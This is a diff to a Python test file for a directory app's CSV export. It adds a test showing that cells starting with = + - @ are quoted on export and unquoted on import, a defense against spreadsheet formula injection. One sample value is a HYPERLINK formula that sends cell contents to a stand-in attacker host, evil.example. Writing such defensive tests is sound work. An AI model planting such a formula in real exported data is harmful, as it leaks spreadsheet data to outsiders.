@@ -527,10 +527,44 @@ def test_export_round_trips_what_was_imported(site):
     assert exported[0] == COLUMNS
     by_name = {row[0]: row for row in exported[1:]}
     assert set(by_name) == {"admin@contoso.example", *(row[0] for row in rows)}
+    phones = [COLUMNS.index("telephoneNumber"), COLUMNS.index("mobile")]
     for row in rows:
-        assert by_name[row[0]] == row
+        quoted = [f"'{cell}" if i in phones and cell else cell for i, cell in enumerate(row)]
+        assert by_name[row[0]] == quoted  # "+1 555 0100" is exported as "'+1 555 0100"
 
     again = upload(site, export.data.decode("utf-8-sig"))
     assert (
         "0 to create" in again.text and "0 to update" in again.text and "4 unchanged" in again.text
     )
+
+
+def test_export_quotes_what_a_spreadsheet_would_run_and_import_takes_the_quote_off(site):
+    """CSV injection: a cell that starts with = + - @ is a formula to a spreadsheet program."""
+    risky = {
+        "jobTitle": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "department": "@SUM(1+1)",
+        "city": "-Zug",
+        "displayName": "'Tis Grace",  # starts with the quote itself: one more is added
+        "telephoneNumber": "+41 44 555 0100",
+    }
+    rows = [csv_row(**{**all_attributes(manager=""), **risky}, active="true")]
+    page = upload(site, csv_text(rows))
+    assert post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})
+    stored = site.user("grace@contoso.example")
+    assert stored["title"] == risky["jobTitle"] and stored["displayName"] == "'Tis Grace"
+
+    export = site.admin.get(f"{site.base}/export")
+    exported = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"), newline="")))
+    grace = next(row for row in exported if row[0] == "grace@contoso.example")
+    for name, value in risky.items():
+        assert grace[COLUMNS.index(name)] == "'" + value
+    assert grace[COLUMNS.index("givenName")] == "Grace"  # nothing risky: left as it is
+
+    again = upload(site, export.data.decode("utf-8-sig"))
+    assert "0 to update" in again.text and "2 unchanged" in again.text
+
+    # A quote typed by hand in front of anything else is kept: it is part of the value.
+    hand_made = csv_row(userPrincipalName="q@contoso.example", displayName="'quoted'")
+    page = upload(site, csv_text([hand_made]))
+    assert post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})
+    assert site.user("q@contoso.example")["displayName"] == "'quoted'"
